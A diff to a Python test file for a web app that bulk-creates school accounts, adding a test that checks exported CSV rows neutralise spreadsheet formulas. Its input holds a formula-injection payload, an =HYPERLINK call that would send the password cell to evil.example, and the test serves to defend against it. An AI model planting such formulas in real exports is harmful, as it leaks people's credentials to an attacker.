@@ -3,6 +3,7 @@ password shown once (and in a CSV link inside that one page), never stored."""
 
 from __future__ import annotations
 
+import csv
 import io
 import re
 from urllib.parse import unquote
@@ -134,6 +135,23 @@ def test_a_csv_file_is_read_like_pasted_lines_and_its_lines_come_back_when_wrong
     empty = send(admin, "  \n ")
     assert empty.status_code == 422 and "at least one line" in empty.get_data(as_text=True)
     assert db.session.scalar(select(func.count()).select_from(User).where(User.email.like("%@school.example"))) == 4
+
+
+def test_the_csv_list_runs_no_formula_from_a_name_or_an_address(app, admin):
+    # A roster pasted from elsewhere may hold a name that a spreadsheet would run, sending the password in the
+    # same row to another site when the downloaded list is opened.
+    made = send(admin, '"=HYPERLINK(""https://evil.example/?""&D2,""Open"")", evil@school.example\n'
+                       "@SUM(1+1), at@school.example\n"
+                       "Bob, +1-2@school.example")
+    page = made.get_data(as_text=True)
+    assert made.status_code == 200 and "3 accounts made" in page
+    link = re.search(r'href="(data:text/csv;[^"]+)" download="new-accounts.csv"', page).group(1)
+    rows = list(csv.reader(io.StringIO(unquote(link.split(",", 1)[1]).removeprefix("\ufeff"))))[1:]
+    assert [row[:2] for row in rows] == [
+        ["'=HYPERLINK(\"https://evil.example/?\"&D2,\"Open\")", "evil@school.example"],
+        ["'@SUM(1+1)", "at@school.example"], ["Bob", "'+1-2@school.example"]]
+    # The slips show the names as they were typed.
+    assert "=HYPERLINK(&#34;https://evil.example/?&#34;&amp;D2,&#34;Open&#34;)</p>" in page
 
 
 def test_a_list_too_long_is_refused_whole():
